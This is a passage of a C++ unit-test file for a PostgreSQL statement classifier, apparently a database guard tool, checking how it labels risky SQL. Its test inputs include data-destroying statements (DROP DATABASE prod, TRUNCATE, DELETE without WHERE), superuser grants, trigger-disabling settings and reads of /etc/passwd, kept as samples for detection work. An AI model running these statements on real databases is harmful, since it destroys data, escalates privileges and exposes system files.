  {"sql_procedure_body_truncate", "CREATE PROCEDURE p() LANGUAGE sql AS $$ TRUNCATE audit $$", "=ddl,truncate", "w:audit", "p", "", 1, 0, "procedure"},
  {"sql_function_body_drop", "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DROP TABLE users $$", "=ddl,drop", "d:users", "f"},
  {"sql_function_schema_qualified_name", "CREATE FUNCTION app.f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "=ddl,select", "", "app.f"},
  {"sql_function_body_unparseable", "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELEC 1'", "+ddl", "", nullptr, "", 1, 1},
  {"plpgsql_delete", "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM users; END $$", "=ddl,delete,delete_without_where", "w:users", "f", "", 1, 0},
  {"plpgsql_update_in_if", "CREATE FUNCTION f(a int) RETURNS void LANGUAGE plpgsql AS $$ BEGIN IF a > 0 THEN UPDATE t SET x = 1 WHERE id = a; END IF; END $$", "=ddl,update", "w:t", nullptr, "", 1, 0},
  {"plpgsql_loop_body_insert", "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ DECLARE r record; BEGIN FOR r IN SELECT * FROM src LOOP INSERT INTO dst VALUES (r.id); END LOOP; END $$", "+ddl,insert", "w:dst r:src", nullptr, "", 1, 0},
  {"plpgsql_nested_block_truncate", "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN BEGIN TRUNCATE audit; EXCEPTION WHEN others THEN NULL; END; END $$", "+ddl,truncate", "w:audit"},
  {"plpgsql_execute_constant_drop", "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", "+ddl,drop", "d:users", nullptr, "", 1, 0},
  {"plpgsql_execute_dynamic_is_opaque", "CREATE FUNCTION f(t text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE ' || t; END $$", "+ddl -drop,do_block", "", nullptr, "", 1, 1},
  {"plpgsql_execute_format_is_opaque", "CREATE FUNCTION f(t text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE format('TRUNCATE %I', t); END $$", "+ddl", "", nullptr, "format", 1, 1},
  {"plpgsql_declare_default_subquery", "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ DECLARE n int := (SELECT count(*) FROM users); BEGIN RETURN n; END $$", "+ddl -delete", "r:users", nullptr, "count", 1, 0},
  {"plpgsql_perform_function", "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN PERFORM pg_terminate_backend(42); END $$", "+ddl", "", nullptr, "pg_terminate_backend"},
  {"plpgsql_return_query_cte_delete", "CREATE FUNCTION f() RETURNS SETOF int LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY WITH d AS (DELETE FROM t RETURNING id) SELECT id FROM d; END $$", "+ddl,delete,delete_without_where", "w:t"},
  {"plpgsql_assignment_with_function", "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ DECLARE x int; BEGIN x := pg_backend_pid(); RETURN x; END $$", "+ddl", "", nullptr, "pg_backend_pid", 1, 0},
  {"plpgsql_trigger_function", "CREATE FUNCTION trg() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DELETE FROM cache WHERE k = NEW.k; RETURN NEW; END $$", "+ddl,delete -delete_without_where", "w:cache"},
  {"plpgsql_procedure_update", "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN UPDATE t SET a = 0; COMMIT; END $$", "+ddl,update,update_without_where,transaction", "w:t", "p", "", 1, 0, "procedure"},
  {"plpgsql_session_replication_role", "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN SET session_replication_role = replica; END $$", "+ddl,session_replication_role"},
  {"plpgsql_execute_constant_nested_function", "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'CREATE FUNCTION g() RETURNS void LANGUAGE sql AS ''DELETE FROM users'''; END $$", "+ddl,delete,delete_without_where", "w:users"},
  {"plpgsql_body_does_not_parse_is_opaque", "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN IF THEN END $$", "+ddl", "", nullptr, "", 1, 1},
  {"plpython_body_is_opaque", "CREATE FUNCTION f() RETURNS void LANGUAGE plpython3u AS $$ plpy.execute('DROP TABLE users') $$", "=ddl", "", nullptr, "", 1, 1},
  {"c_function_is_opaque", "CREATE FUNCTION f() RETURNS void LANGUAGE c AS 'mylib', 'f'", "=ddl", "", nullptr, "", 1, 1},
  {"function_set_option_replication_role", "CREATE FUNCTION f() RETURNS void LANGUAGE sql SET session_replication_role = replica AS 'SELECT 1'", "=ddl,session_replication_role,select"},
  {"function_body_quoted_tricks", "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $fn$ SELECT 'DROP TABLE users' $fn$", "=ddl,select", "", nullptr, "", 1, 0},
  {"call_procedure", "CALL cleanup_old_rows(30)", "=other", "", nullptr, "cleanup_old_rows", 1, -1, nullptr, "CALL"},

  // ---- DROP ------------------------------------------------------------------------------------
  {"drop_table", "DROP TABLE users", "=drop", "=d:users", "users", "", 1, 0, "table", "DROP TABLE"},
  {"drop_table_if_exists_cascade", "DROP TABLE IF EXISTS public.users CASCADE", "=drop", "=d:public.users", "public.users", "", 1, -1, "table"},
  {"drop_several_tables", "DROP TABLE a, b.c", "=drop", "=d:a d:b.c", "a"},
  {"drop_schema_cascade", "DROP SCHEMA public CASCADE", "=drop", "=", "public", "", 1, -1, "schema", "DROP SCHEMA"},
  {"drop_index", "DROP INDEX CONCURRENTLY idx_users_email", "=drop", "=", "idx_users_email", "", 1, -1, "index"},
  {"drop_database", "DROP DATABASE prod", "=drop", "=", "prod", "", 1, -1, "database", "DROP DATABASE"},
  {"drop_database_force", "DROP DATABASE IF EXISTS prod WITH (FORCE)", "=drop", "", "prod", "", 1, -1, "database"},
  {"drop_function", "DROP FUNCTION f(int)", "=drop", "=", "f", "", 1, -1, "function"},
  {"drop_procedure", "DROP PROCEDURE app.p()", "=drop", "", "app.p", "", 1, -1, "procedure"},
  {"drop_view", "DROP VIEW v", "=drop", "=d:v", "v", "", 1, -1, "view"},
  {"drop_materialized_view", "DROP MATERIALIZED VIEW mv", "=drop", "=d:mv", "mv", "", 1, -1, "materialized view"},
  {"drop_sequence", "DROP SEQUENCE s", "=drop", "", "s", "", 1, -1, "sequence"},
  {"drop_type", "DROP TYPE mood", "=drop", "", "mood", "", 1, -1, "type"},
  {"drop_extension", "DROP EXTENSION pgcrypto", "=drop", "", "pgcrypto", "", 1, -1, "extension"},
  {"drop_trigger", "DROP TRIGGER trg ON t", "=drop", "", nullptr, "", 1, -1, "trigger"},
  {"drop_owned", "DROP OWNED BY app_user", "=drop,role_admin", "", "app_user"},
  {"drop_tablespace", "DROP TABLESPACE fast", "=drop", "", "fast", "", 1, -1, "tablespace"},
  {"drop_foreign_table", "DROP FOREIGN TABLE ft", "=drop", "=d:ft", "ft", "", 1, -1, "foreign table"},

  // ---- TRUNCATE -----------------------------------------------------------------------------
  {"truncate", "TRUNCATE users", "=truncate", "=w:users", "users", "", 1, -1, nullptr, "TRUNCATE"},
  {"truncate_table_keyword", "TRUNCATE TABLE users RESTART IDENTITY CASCADE", "=truncate", "=w:users"},
  {"truncate_many", "TRUNCATE a, public.b, ONLY c", "=truncate", "=w:a w:public.b w:c", "a"},

  // ---- ALTER TABLE and other DDL ----------------------------------------------------------
  {"alter_drop_column", "ALTER TABLE users DROP COLUMN email", "=ddl,alter_drop_column", "=d:users", "users", "", 1, -1, "table", "ALTER TABLE"},
  {"alter_drop_column_if_exists", "ALTER TABLE IF EXISTS public.users DROP COLUMN IF EXISTS email CASCADE", "=ddl,alter_drop_column", "=d:public.users"},
  {"alter_column_type", "ALTER TABLE users ALTER COLUMN age TYPE bigint", "=ddl,alter_column_type", "=d:users"},
  {"alter_column_type_using", "ALTER TABLE users ALTER COLUMN age SET DATA TYPE text USING age::text", "=ddl,alter_column_type", "=d:users"},
  {"alter_both_in_one", "ALTER TABLE t DROP COLUMN a, ALTER COLUMN b TYPE int", "=ddl,alter_drop_column,alter_column_type"},
  {"alter_add_column", "ALTER TABLE users ADD COLUMN nickname text", "=ddl", "=d:users"},
  {"alter_add_column_default_fn", "ALTER TABLE users ADD COLUMN created timestamptz DEFAULT now()", "=ddl", "d:users", nullptr, "now"},
  {"alter_drop_constraint", "ALTER TABLE users DROP CONSTRAINT users_email_key", "=ddl", "=d:users"},
  {"alter_rename_table", "ALTER TABLE users RENAME TO old_users", "=ddl", "d:users"},
  {"alter_rename_column", "ALTER TABLE users RENAME COLUMN a TO b", "=ddl", "d:users"},
  {"alter_set_schema", "ALTER TABLE users SET SCHEMA archive", "=ddl", "d:users"},
  {"alter_owner", "ALTER TABLE users OWNER TO bob", "=ddl", "d:users"},
  {"alter_index_rename", "ALTER INDEX i RENAME TO j", "=ddl"},
  {"alter_type_drop_attribute", "ALTER TYPE comp DROP ATTRIBUTE a", "+ddl,alter_drop_column"},
  {"alter_sequence", "ALTER SEQUENCE s RESTART WITH 1", "=ddl"},
  {"alter_database_rename", "ALTER DATABASE a RENAME TO b", "=ddl"},
  {"create_table", "CREATE TABLE t (id bigint PRIMARY KEY, email text NOT NULL)", "=ddl", "=d:t", "t", "", 1, 0, "table", "CREATE TABLE"},
  {"create_table_with_fk", "CREATE TABLE orders (id int, user_id int REFERENCES users(id))", "=ddl", "d:orders r:users", "orders"},
  {"create_temp_table", "CREATE TEMP TABLE scratch (a int)", "=ddl", "=d:scratch"},
  {"create_table_like", "CREATE TABLE t2 (LIKE t INCLUDING ALL)", "=ddl", "d:t2"},
  {"create_index", "CREATE INDEX CONCURRENTLY idx ON users (email)", "=ddl", "=d:users", nullptr, "", 1, -1, "index"},
  {"create_unique_index_expr", "CREATE UNIQUE INDEX i ON users (lower(email))", "=ddl", "d:users", nullptr, "lower"},
  {"create_view", "CREATE VIEW active_users AS SELECT * FROM users WHERE active", "=ddl", "=d:active_users r:users", "active_users", "", 1, -1, "view"},
  {"create_schema", "CREATE SCHEMA IF NOT EXISTS app", "=ddl", "=", "app", "", 1, -1, "schema"},
  {"create_schema_with_grant_element", "CREATE SCHEMA s CREATE TABLE s1 (a int) GRANT SELECT ON s1 TO bob", "+ddl,role_admin"},
  {"create_sequence", "CREATE SEQUENCE s", "=ddl", "", nullptr, "", 1, -1, "sequence"},
  {"create_extension", "CREATE EXTENSION IF NOT EXISTS pgcrypto", "=ddl", "", "pgcrypto", "", 1, -1, "extension"},
  {"create_type_enum", "CREATE TYPE mood AS ENUM ('sad', 'ok')", "=ddl"},
  {"create_domain", "CREATE DOMAIN posint AS int CHECK (VALUE > 0)", "=ddl"},
  {"create_trigger", "CREATE TRIGGER trg BEFORE UPDATE ON users FOR EACH ROW EXECUTE FUNCTION trg()", "=ddl", "d:users", nullptr, "", 1, -1, "trigger"},
  {"create_policy", "CREATE POLICY p ON users USING (tenant_id = current_setting('app.tenant')::int)", "=ddl", "d:users", nullptr, "current_setting"},
  {"create_database", "CREATE DATABASE scratch", "=ddl", "", "scratch", "", 1, -1, "database"},
  {"comment_on_table", "COMMENT ON TABLE users IS 'DROP TABLE users'", "=ddl", "", "users"},
  {"comment_on_column", "COMMENT ON COLUMN users.email IS 'x'", "=ddl"},
  {"alter_database_set_replication_role", "ALTER DATABASE app SET session_replication_role = replica", "+ddl,session_replication_role"},

  // ---- role administration -----------------------------------------------------------------
  {"create_role", "CREATE ROLE app LOGIN PASSWORD 'x'", "=role_admin", "", "app"},
  {"create_user", "CREATE USER bob WITH SUPERUSER", "=role_admin", "", "bob"},
  {"create_group", "CREATE GROUP admins", "=role_admin"},
  {"alter_role_superuser", "ALTER ROLE bob SUPERUSER", "=role_admin", "", "bob"},
  {"alter_user_password", "ALTER USER bob WITH PASSWORD 'secret'", "=role_admin", "", "bob"},
  {"alter_role_rename", "ALTER ROLE bob RENAME TO robert", "=role_admin"},
  {"drop_role_is_drop_and_role_admin", "DROP ROLE bob", "=drop,role_admin", "", "bob", "", 1, -1, "role"},
  {"drop_user_if_exists", "DROP USER IF EXISTS bob, alice", "=drop,role_admin", "", "bob"},
  {"drop_group", "DROP GROUP admins", "=drop,role_admin"},
  {"grant_select", "GRANT SELECT ON users TO reporting", "=role_admin", "d:users", "users", "", 1, -1, nullptr, "GRANT"},
  {"grant_all_schema", "GRANT ALL ON ALL TABLES IN SCHEMA public TO app", "=role_admin"},
  {"grant_role_membership", "GRANT admin TO bob", "=role_admin"},
  {"revoke_privileges", "REVOKE DELETE ON users FROM app", "=role_admin", "", nullptr, "", 1, -1, nullptr, "REVOKE"},
  {"revoke_role_membership", "REVOKE admin FROM bob", "=role_admin"},
  {"alter_default_privileges", "ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO reporting", "=role_admin"},
  {"reassign_owned", "REASSIGN OWNED BY old TO new_owner", "=role_admin"},
  {"alter_role_set_replication_role", "ALTER ROLE app SET session_replication_role = replica", "=role_admin,session_replication_role"},
  {"alter_role_in_db_set_replication_role", "ALTER ROLE app IN DATABASE prod SET session_replication_role TO 'replica'", "=role_admin,session_replication_role"},
  {"alter_role_set_other_setting", "ALTER ROLE app SET statement_timeout = '5s'", "=role_admin"},

  // ---- session_replication_role -------------------------------------------------------------
  {"set_replication_role", "SET session_replication_role = replica", "=set,session_replication_role"},
  {"set_replication_role_to_quoted", "SET session_replication_role TO 'replica'", "=set,session_replication_role"},
  {"set_local_replication_role", "SET LOCAL session_replication_role = replica", "=set,session_replication_role"},
  {"set_replication_role_upper", "SET SESSION_REPLICATION_ROLE = REPLICA", "=set,session_replication_role"},
  {"set_config_replication_role", "SELECT set_config('session_replication_role', 'replica', false)", "=select,session_replication_role", "", nullptr, "set_config"},
  {"set_config_replication_role_qualified", "SELECT pg_catalog.set_config('SESSION_REPLICATION_ROLE', 'replica', true)", "=select,session_replication_role"},
  {"set_config_other_setting", "SELECT set_config('search_path', 'public', false)", "=select", "", nullptr, "set_config"},
  {"alter_system_replication_role", "ALTER SYSTEM SET session_replication_role = replica", "=alter_system,session_replication_role"},
  {"reset_replication_role", "RESET session_replication_role", "=set"},
  {"show_replication_role", "SHOW session_replication_role", "=set"},

  // ---- ALTER SYSTEM -------------------------------------------------------------------------
  {"alter_system_set", "ALTER SYSTEM SET max_connections = 500", "=alter_system", "", nullptr, "", 1, -1, nullptr, "ALTER SYSTEM"},
  {"alter_system_reset", "ALTER SYSTEM RESET ALL", "=alter_system"},

  // ---- transactions --------------------------------------------------------------------------
  {"begin", "BEGIN", "=transaction", "=", nullptr, "", 1, -1, nullptr, "BEGIN"},
  {"begin_isolation", "BEGIN ISOLATION LEVEL SERIALIZABLE READ ONLY", "=transaction"},
  {"start_transaction", "START TRANSACTION", "=transaction", "", nullptr, "", 1, -1, nullptr, "START TRANSACTION"},
  {"commit", "COMMIT", "=transaction", "", nullptr, "", 1, -1, nullptr, "COMMIT"},
  {"rollback", "ROLLBACK", "=transaction", "", nullptr, "", 1, -1, nullptr, "ROLLBACK"},
  {"abort", "ABORT", "=transaction"},
  {"savepoint", "SAVEPOINT sp1", "=transaction", "", nullptr, "", 1, -1, nullptr, "SAVEPOINT"},
  {"release_savepoint", "RELEASE SAVEPOINT sp1", "=transaction"},
  {"rollback_to_savepoint", "ROLLBACK TO SAVEPOINT sp1", "=transaction", "", nullptr, "", 1, -1, nullptr, "ROLLBACK TO SAVEPOINT"},
  {"prepare_transaction", "PREPARE TRANSACTION 'gx1'", "=transaction"},
  {"commit_prepared", "COMMIT PREPARED 'gx1'", "=transaction"},

  // ---- SET / RESET / SHOW --------------------------------------------------------------------
  {"set_search_path", "SET search_path TO app, public", "=set", "=", nullptr, "", 1, -1, nullptr, "SET"},
  {"set_timezone", "SET TIME ZONE 'UTC'", "=set"},
  {"set_statement_timeout", "SET statement_timeout = 0", "=set"},
  {"set_local", "SET LOCAL lock_timeout = '1s'", "=set"},
  {"set_custom_approval", "SET pgmoat.approval = 'tok_123'", "=set"},
  {"set_role", "SET ROLE admin", "=set"},
  {"set_transaction_isolation", "SET TRANSACTION ISOLATION LEVEL REPEATABLE READ", "=set"},
  {"reset_one", "RESET statement_timeout", "=set", "", nullptr, "", 1, -1, nullptr, "RESET"},
  {"reset_all", "RESET ALL", "=set"},
  {"show_one", "SHOW search_path", "=set", "", nullptr, "", 1, -1, nullptr, "SHOW"},
  {"show_all", "SHOW ALL", "=set"},

  // ---- other statements ---------------------------------------------------------------------
  {"vacuum", "VACUUM ANALYZE users", "=other"},
  {"analyze", "ANALYZE users", "=other"},
  {"listen", "LISTEN jobs", "=other"},
  {"notify", "NOTIFY jobs, 'DROP TABLE users'", "=other"},
  {"unlisten", "UNLISTEN *", "=other"},
  {"discard_all", "DISCARD ALL", "=other"},
  {"checkpoint", "CHECKPOINT", "=other"},
  {"lock_table", "LOCK TABLE users IN ACCESS EXCLUSIVE MODE", "=other"},
  {"refresh_matview", "REFRESH MATERIALIZED VIEW CONCURRENTLY mv", "=other"},
  {"reindex", "REINDEX TABLE users", "=other"},
  {"load", "LOAD 'auto_explain'", "=other"},
  {"close_cursor", "CLOSE c", "=other"},

  // ---- functions are reported, never judged here ---------------------------------------------
  {"func_pg_terminate_backend", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'x'", "=select -dangerous_function", "r:pg_stat_activity", nullptr, "pg_terminate_backend"},
  {"func_qualified_read_file", "SELECT pg_catalog.pg_read_file('/etc/passwd')", "=select", "", nullptr, "pg_read_file"},
  {"func_quoted_upper_name", "SELECT \"LO_IMPORT\"('/etc/passwd')", "=select", "", nullptr, "lo_import"},
  {"func_dblink_string_not_parsed", "SELECT * FROM dblink('host=x', 'DELETE FROM users') AS t(a int)", "=select", "", nullptr, "dblink"},
  {"func_in_where_of_delete", "DELETE FROM t WHERE id = pg_backend_pid()", "=delete", "=w:t", nullptr, "pg_backend_pid"},
  // TRIM(x) is SQL syntax for the function btrim(x).
  {"func_nested_in_args", "SELECT upper(lower(trim(name))) FROM t", "=select", "=r:t", nullptr, "upper lower btrim"},
  {"func_in_cte", "WITH x AS (SELECT pg_sleep(10)) SELECT * FROM x", "=select", "=", nullptr, "pg_sleep"},
};
// clang-format on

std::string case_name(const testing::TestParamInfo<Case>& info) {
  return info.param.name;
}

class ClassifyCase : public testing::TestWithParam<Case> {};

TEST_P(ClassifyCase, Matches) {
  const Case& c = GetParam();
  const Classification r = classify(c.sql);
  ASSERT_TRUE(r.ok) << r.error << " at " << r.error_position;
  if (c.statements >= 0) {
    ASSERT_EQ(r.statements.size(), static_cast<std::size_t>(c.statements));
  }
  ASSERT_FALSE(r.statements.empty());
  const ClassSet all = r.all_classes();

  for (const auto& tok : split(c.classes, ' ')) {
    const char kind = tok[0];
    ClassSet want = 0;
    for (const auto& n : split(tok.substr(1), ',')) {
      auto cls = class_from_name(n);
      ASSERT_TRUE(cls.has_value()) << "bad class name in test: " << n;
      want |= bit(*cls);
    }
    if (kind == '=') {
      EXPECT_EQ(class_list(all), class_list(want));
    } else if (kind == '+') {
      EXPECT_EQ(all & want, want) << "got " << class_list(all) << ", want all of "
                                  << class_list(want);
    } else if (kind == '-') {
      EXPECT_EQ(all & want, 0u) << "got " << class_list(all) << ", want none of "
                                << class_list(want);
    } else {
      FAIL() << "bad class spec " << tok;
    }
  }

  std::set<std::string> got_tables;
  std::set<std::string> got_names;
  for (const auto& st : r.statements) {
    for (const auto& t : st.tables) {
      got_tables.insert(std::string(1, access_char(t.access)) + ":" + t.name);
      got_names.insert(t.name);
    }
  }
  std::string_view tspec = c.tables;
  const bool exact = !tspec.empty() && tspec[0] == '=';
  if (exact) tspec.remove_prefix(1);
  std::set<std::string> want_tables;
  for (const auto& tok : split(tspec, ' ')) {
    if (tok[0] == '!') {
      EXPECT_EQ(got_names.count(tok.substr(1)), 0u) << tok.substr(1) << " is not a table here";
      continue;
    }
    want_tables.insert(tok);
    EXPECT_EQ(got_tables.count(tok), 1u) << "missing table " << tok;
  }
  if (exact) {
    std::ostringstream got;
    for (const auto& t : got_tables) got << t << ' ';
    EXPECT_EQ(got_tables, want_tables) << "got tables: " << got.str();
  }

  std::set<std::string> got_functions;
  for (const auto& st : r.statements)
    got_functions.insert(st.functions.begin(), st.functions.end());
  for (const auto& f : split(c.functions, ' ')) {
    EXPECT_EQ(got_functions.count(f), 1u) << "missing function " << f;
  }

  const Statement& first = r.statements.front();
  if (c.target != nullptr) {
    EXPECT_EQ(first.target, c.target);
  }
  if (c.object_type != nullptr) {
    EXPECT_EQ(first.object_type, c.object_type);
  }
  if (c.command != nullptr) {
    EXPECT_EQ(first.command, c.command);
  }
  if (c.opaque >= 0) {
    bool any_opaque = false;
    for (const auto& st : r.statements) any_opaque = any_opaque || st.opaque;
    EXPECT_EQ(any_opaque, c.opaque == 1) << first.opaque_reason;
  }
}

INSTANTIATE_TEST_SUITE_P(Sql, ClassifyCase, testing::ValuesIn(kCases), case_name);

TEST(ClassifyCases, HasEnoughCases) {
  EXPECT_GE(std::size(kCases), 250u);
}

TEST(ClassifyCases, NamesAreUnique) {
  std::set<std::string> names;
  for (const auto& c : kCases) EXPECT_TRUE(names.insert(c.name).second) << c.name;
}

TEST(ClassifyCases, EveryClassIsCovered) {
  ClassSet seen = 0;
  for (const auto& c : kCases) seen |= classify(c.sql).all_classes();
  for (int i = 0; i < static_cast<int>(StatementClass::kCount); ++i) {
    const auto cls = static_cast<StatementClass>(i);
    if (cls == StatementClass::dangerous_function) continue;  // policy's, never ours
    EXPECT_TRUE(has(seen, cls)) << class_name(cls) << " has no case";
  }
}

}  // namespace
}  // namespace pgmoat::parser
